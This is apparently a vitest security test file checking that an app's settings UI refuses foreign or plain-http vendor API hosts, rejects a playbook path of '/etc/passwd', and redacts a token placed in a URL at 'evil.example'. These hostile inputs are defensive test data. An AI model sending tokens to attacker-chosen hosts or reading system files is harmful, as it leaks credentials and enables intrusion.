/** Defect 4 of issue 10: the UI cannot send a vendor token to a host it chose. */
import { afterEach, describe, expect, it } from 'vitest';
import { startHost, tempDataDir, type HostUnderTest } from '../../../chaos/host-harness.js';
import { PLANTED, tryExfiltration } from '../../../chaos/exfiltration.js';

let host: HostUnderTest | undefined;
afterEach(async () => {
  await host?.stop();
  host = undefined;
});

describe('vendor URLs from the UI', () => {
  it('refuses every foreign or plain-http vendor host; no token arrives', async () => {
    host = await startHost(tempDataDir());
    const report = await tryExfiltration(host);
    expect(report.tokensArrived).toBe(0);
    expect(report.refused).toBe(report.attempts);
  });

  it("accepts the vendors' own https hosts (Slack, GovSlack, Statuspage, Linear, PagerDuty US/EU)", async () => {
    host = await startHost(tempDataDir());
    for (const patch of [
      { slackApiUrl: 'https://slack.com/api/' },
      { slackApiUrl: 'https://slack-gov.com/api/' },
      { statuspageApiUrl: 'https://api.statuspage.io/v1' },
      { linearApiUrl: 'https://api.linear.app/graphql' },
      { pagerdutyApiUrl: 'https://api.eu.pagerduty.com' },
      { slackApiUrl: '' },
    ]) {
      const result = await host.invoke('settings:update', { patch });
      expect(result.ok, JSON.stringify(result)).toBe(true);
    }
  });

  it('refuses a playbook path that is not .json, .yaml or .yml', async () => {
    host = await startHost(tempDataDir());
    const result = await host.invoke('settings:update', { patch: { playbookPath: '/etc/passwd' } });
    expect(result.ok).toBe(false);
    expect(JSON.stringify(result)).toContain('a playbook must be a .json, .yaml or .yml file');
  });

  it('redacts a token echoed in vendor text reaching the UI', async () => {
    host = await startHost(tempDataDir());
    await host.invoke('settings:set-secret', {
      name: 'pagerdutyToken',
      value: PLANTED.pagerdutyToken,
    });
    // The UI may type a token that is not saved: its echo is redacted all the same.
    const typed = 'typed-but-not-saved-0123456789';
    const result = await host.invoke('sources:test', {
      source: 'pagerduty',
      token: typed,
      apiUrl: `https://evil.example/${typed}`,
    });
    expect(JSON.stringify(result)).not.toContain(typed);
  });
});
